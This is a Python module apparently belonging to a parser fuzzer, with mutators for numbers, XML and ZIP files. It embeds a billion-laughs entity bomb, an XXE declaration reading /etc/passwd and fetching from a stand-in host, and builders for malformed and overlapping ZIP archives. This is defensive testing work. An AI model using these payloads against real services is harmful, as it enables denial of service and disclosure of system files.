"""Changes by chance that all formats share: of bytes, of numbers, of XML and of ZIP files."""

# ruff: noqa: E501  # inputs are on one line each

from __future__ import annotations

import random
import re
import struct
import zlib
from collections.abc import Callable, Mapping, Sequence
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from hostile_inputs import mutated

# What was changed, and the files of the project that it makes.
Fuzzed = tuple[str, dict[str, bytes]]

# Numbers at which counts, sizes and offsets overflow, or ask for much.
NUMBERS = (
    0, 1, 2, 3, 7, 8, 100, 127, 128, 255, 256, 1000, 10_000, 32_767, 32_768, 65_535, 65_536, 100_000,
    1_048_576, 16_777_216, 2**31 - 1, 2**31, 2**32 - 1, 2**32, 4_000_000_000, 2**53, 2**63 - 1, 2**63,
    2**64 - 1, 2**64, 10**30,
)  # fmt: skip

_AS_TEXT = (
    "-1",
    "",
    "1e309",
    "-1e309",
    "NaN",
    "inf",
    "0x10",
    "1,5",
    "+1",
    "٣",
    "1" * 400,
    "-0",
    "1.5",
)


def number(chance: random.Random) -> str:
    """A number as text, or something like one."""
    return str(chance.choice(NUMBERS)) if chance.random() < 0.8 else chance.choice(_AS_TEXT)


def packed(chance: random.Random, form: str) -> bytes:
    """A dangerous number of a form of `struct`."""
    bits = 8 * struct.calcsize(form)
    return struct.pack(form, chance.choice([n for n in NUMBERS if n < 2**bits]))


def overwritten(content: bytes, at: int, new: bytes) -> bytes:
    """A content with other bytes at a place."""
    return content[:at] + new + content[at + len(new) :]


def some_bytes(content: bytes, chance: random.Random, most: int = 6) -> bytes:
    """A content with a few changes anywhere."""
    return mutated(content, chance, chance.randint(1, most))


def chosen(chance: random.Random, *changes: Callable[[], tuple[str, bytes]]) -> tuple[str, bytes]:
    """One of some changes."""
    return chance.choice(changes)()


# --- XML -----------------------------------------------------------------------------------------

_VALUE = re.compile(rb'(?<==")[^"<>]*(?=")')
_NUMBER = re.compile(rb'(?<==")[-+.0-9]+(?=")|(?<=>)[-+.0-9]+(?=<)')
_TAG = re.compile(rb"<(?P<name>[\w:]+)[^<>]*/>|<(?P<open>[\w:]+)[^<>]*>[^<>]*</(?P=open)>")

BOMB = (
    b'<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]>"
)
# A text of half a megabyte that is repeated: its growth is below the limit of expat for small ones.
LARGE_ENTITY = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 500_000 + b'">]>'
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://192.0.2.1/x">%b;]>'


def xml(content: bytes, chance: random.Random) -> tuple[str, bytes]:
    """A change of an XML file: of its numbers, values, elements, nesting, entities, encoding."""
    return chosen(
        chance,
        lambda: ("number", _one(_NUMBER, content, chance, lambda _: number(chance).encode())),
        lambda: ("number", _one(_NUMBER, content, chance, lambda _: number(chance).encode())),
        lambda: ("value", _one(_VALUE, content, chance, lambda old: some_bytes(old or b"x", chance, 2))),
        lambda: ("long value", _one(_VALUE, content, chance, lambda old: (old or b"x") * chance.choice((9, 5000, 50_000)))),
        lambda: ("repeated", _one(_TAG, content, chance, lambda old: old * chance.choice((2, 50, 3000)))),
        lambda: ("nested", _one(_TAG, content, chance, lambda old: _nest(old, chance.choice((3, 60, 5000, 40_000))))),
        lambda: ("missing", _one(_TAG, content, chance, lambda _: b"")),
        lambda: ("entities", _declared(content, chance.choice((BOMB, LARGE_ENTITY, OUTSIDE)), chance)),
        lambda: ("encoding", _encoded(content, chance)),
        lambda: ("bytes", some_bytes(content, chance)),
    )  # fmt: skip


def _one(
    pattern: re.Pattern[bytes],
    content: bytes,
    chance: random.Random,
    change: Callable[[bytes], bytes],
) -> bytes:
    """A content with one of the matches of a pattern changed."""
    found = list(pattern.finditer(content))
    if not found:
        return some_bytes(content, chance)
    one = chance.choice(found)
    return content[: one.start()] + change(one[0]) + content[one.end() :]


def _nest(element: bytes, depth: int) -> bytes:
    found = re.match(rb"<([\w:]+)", element)
    name = found[1] if found else b"g"
    return (b"<%s>" % name) * depth + element + (b"</%s>" % name) * depth


def _declared(content: bytes, declaration: bytes, chance: random.Random) -> bytes:
    """An XML file with entities that its first texts and values use."""
    use = b"&a11;" if declaration is BOMB else b"&a;" * chance.choice((1, 40, 400))
    head = re.match(rb"\s*(<\?xml[^>]*>)?\s*", content)
    at = head.end() if head else 0
    body = re.sub(rb"(?<=>)[^<>]+(?=<)", use, content[at:], count=3)
    return content[:at] + declaration + body


def _encoded(content: bytes, chance: random.Random) -> bytes:
    """An XML file that declares an encoding, or is in one."""
    body = re.sub(rb"^\s*<\?xml[^>]*>", b"", content).decode("utf-8", "replace")
    name = chance.choice(
        (
            "utf-16",
            "utf-32",
            "latin-1",
            "utf-7",
            "none-such",
            "shift_jis",
            "cp037",
            "idna",
            "unicode_escape",
        )
    )
    head = f'<?xml version="1.0" encoding="{name}"?>'
    try:
        return (head + body).encode(name if chance.random() < 0.6 else "utf-8", "replace")
    except (LookupError, UnicodeError):
        return (head + body).encode()


# --- ZIP -----------------------------------------------------------------------------------------


def zipped(
    parts: Mapping[str, bytes] | Sequence[tuple[str, bytes]], pack: int = ZIP_DEFLATED
) -> bytes:
    """A ZIP file of some parts."""
    stream = BytesIO()
    listed = list(parts.items()) if isinstance(parts, Mapping) else parts
    with ZipFile(stream, "w", pack) as archive:
        for name, part in listed:
            # Without the time of the day.
            archive.writestr(ZipInfo(name), part, pack)
    return stream.getvalue()


# Fields of a record in the list of files, and of a local header, by their offset and form.
_LISTED = {
    "version": (4, "<H"), "flags": (8, "<H"), "method": (10, "<H"), "time": (12, "<L"), "crc": (16, "<L"),
    "packed size": (20, "<L"), "size": (24, "<L"), "name length": (28, "<H"), "extra length": (30, "<H"),
    "comment length": (32, "<H"), "disk": (34, "<H"), "mode": (40, "<H"), "offset": (42, "<L"),
}  # fmt: skip
_LOCAL = {
    "flags": (6, "<H"), "method": (8, "<H"), "crc": (14, "<L"), "packed size": (18, "<L"),
    "size": (22, "<L"), "name length": (26, "<H"), "extra length": (28, "<H"),
}  # fmt: skip
_END = {
    "disk": (4, "<H"), "files": (8, "<H"), "all files": (10, "<H"), "list size": (12, "<L"),
    "list offset": (16, "<L"), "comment length": (20, "<H"),
}  # fmt: skip


def zip_damage(content: bytes, chance: random.Random) -> tuple[str, bytes]:
    """A ZIP file with wrong numbers in its headers, overlapping files or a 64-bit end."""
    kind, signature, fields = chance.choice(
        (("listed", b"PK\1\2", _LISTED), ("local", b"PK\3\4", _LOCAL), ("end", b"PK\5\6", _END))
    )
    places = [found.start() for found in re.finditer(re.escape(signature), content)]
    if not places or chance.random() < 0.1:
        return "ZIP bytes", some_bytes(content, chance)
    if chance.random() < 0.1:
        end = struct.pack("<4sQHHLLQQQQ", b"PK\6\6", *(chance.choice(NUMBERS) % 2**bits for bits in (64, 16, 16, 32, 32, 64, 64, 64, 64)))  # fmt: skip
        locator = struct.pack("<4sLQL", b"PK\6\7", 0, places[-1], 1)
        return "ZIP64", content[: places[-1]] + end + locator + content[places[-1] :]
    name, (offset, form) = chance.choice(list(fields.items()))
    at = chance.choice(places) + offset
    return f"ZIP {kind} {name}", overwritten(content, at, packed(chance, form))


def overlapping(names: Sequence[str], content: bytes) -> bytes:
    """A ZIP file whose list has many names for the same compressed file."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(content) + compressor.flush()
    numbers = zlib.crc32(content), len(data), len(content)
    first = names[0].encode()
    local = (
        struct.pack("<4sHHHLLLLHH", b"PK\3\4", 20, 0, 8, 0, *numbers, len(first), 0) + first + data
    )
    listed = b"".join(
        struct.pack("<4sHHHHLLLLHHHHHLL", b"PK\1\2", 20, 20, 0, 8, 0, *numbers, len(name), 0, 0, 0, 0, 0, 0) + name
        for name in (each.encode() for each in names)
    )  # fmt: skip
    end = struct.pack(
        "<4sHHHHLLH",
        b"PK\5\6",
        0,
        0,
        len(names) % 65536,
        len(names) % 65536,
        len(listed),
        len(local),
        0,
    )
    return local + listed + end


STORED = ZIP_STORED
